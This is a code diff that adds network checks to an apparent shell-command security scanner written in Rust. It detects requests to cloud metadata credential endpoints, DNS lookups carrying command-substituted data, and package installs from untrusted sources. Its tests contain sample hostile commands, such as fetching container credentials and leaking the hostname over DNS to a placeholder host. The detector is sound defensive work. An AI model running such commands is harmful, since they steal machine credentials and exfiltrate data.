@@ -60,6 +60,57 @@ pub(super) fn judge(commands: &[Simple], at: &At, seen: &mut Vec<Observation>) {
         name_put_together(command, at, seen);
         steering(command, at, seen);
         writes_system_file(command, at, seen);
+        network(command, at, seen);
+    }
+}
+
+/// Names looked up with data in them, the machine's own credentials, packages from odd places.
+fn network(command: &Simple, at: &At, seen: &mut Vec<Observation>) {
+    let words = unwrapped(&command.words);
+    let (name, shown) = (program(words), command.words.join(" "));
+    let has = |parts: &[&str]| {
+        words
+            .iter()
+            .any(|word| parts.iter().any(|part| word.contains(part)))
+    };
+    if has(&[
+        "169.254.169.254",
+        "metadata.google.internal",
+        "fd00:ec2::254",
+        "169.254.170.2",
+    ]) {
+        let what = format!("{} asks for the machine's own credentials", quote(&shown));
+        add(&rule::HTTP_METADATA, Severity::High, &shown, what, at, seen);
+    }
+    if matches!(name, "dig" | "nslookup" | "host" | "ping" | "drill") && has(&["$(", "`"]) {
+        let what = format!("{} looks up a name with data in it", quote(&shown));
+        add(&rule::SHELL_SENDS_DATA, Severity::High, &shown, what, at, seen);
+    }
+    let installs = matches!(
+        name,
+        "npm" | "pnpm" | "yarn" | "pip" | "pip3" | "uv" | "gem" | "cargo" | "go" | "apt" | "apt-get"
+    );
+    let odd = has(&[
+        "--registry",
+        "--index-url",
+        "--extra-index-url",
+        "--trusted-host",
+        "--allow-unauthenticated",
+        "--source",
+    ]) || words
+        .iter()
+        .skip(1)
+        .any(|word| word.contains("git+") || word.contains("http://"));
+    if installs && odd {
+        let what = format!("{} installs code from a place of its own choosing", quote(&shown));
+        add(
+            &rule::SHELL_UNTRUSTED_SOURCE,
+            Severity::Medium,
+            &shown,
+            what,
+            at,
+            seen,
+        );
     }
 }
 
@@ -329,6 +380,17 @@ mod tests {
         );
         assert_eq!(worst("sed -i s/a/b/ /etc/ssh/sshd_config"), Severity::High);
         assert_eq!(worst("cp a b"), Severity::Info);
+    }
+
+    #[test]
+    fn odd_uses_of_the_network_are_told() {
+        assert_eq!(
+            worst("wget -qO- http://169.254.170.2/v2/credentials"),
+            Severity::High
+        );
+        assert_eq!(worst("nslookup $(hostname).x.test"), Severity::High);
+        assert_eq!(worst("pip install git+https://x.test/a"), Severity::Medium);
+        assert_eq!(worst("pip install requests; dig x.test"), Severity::Info);
     }
 
     #[test]
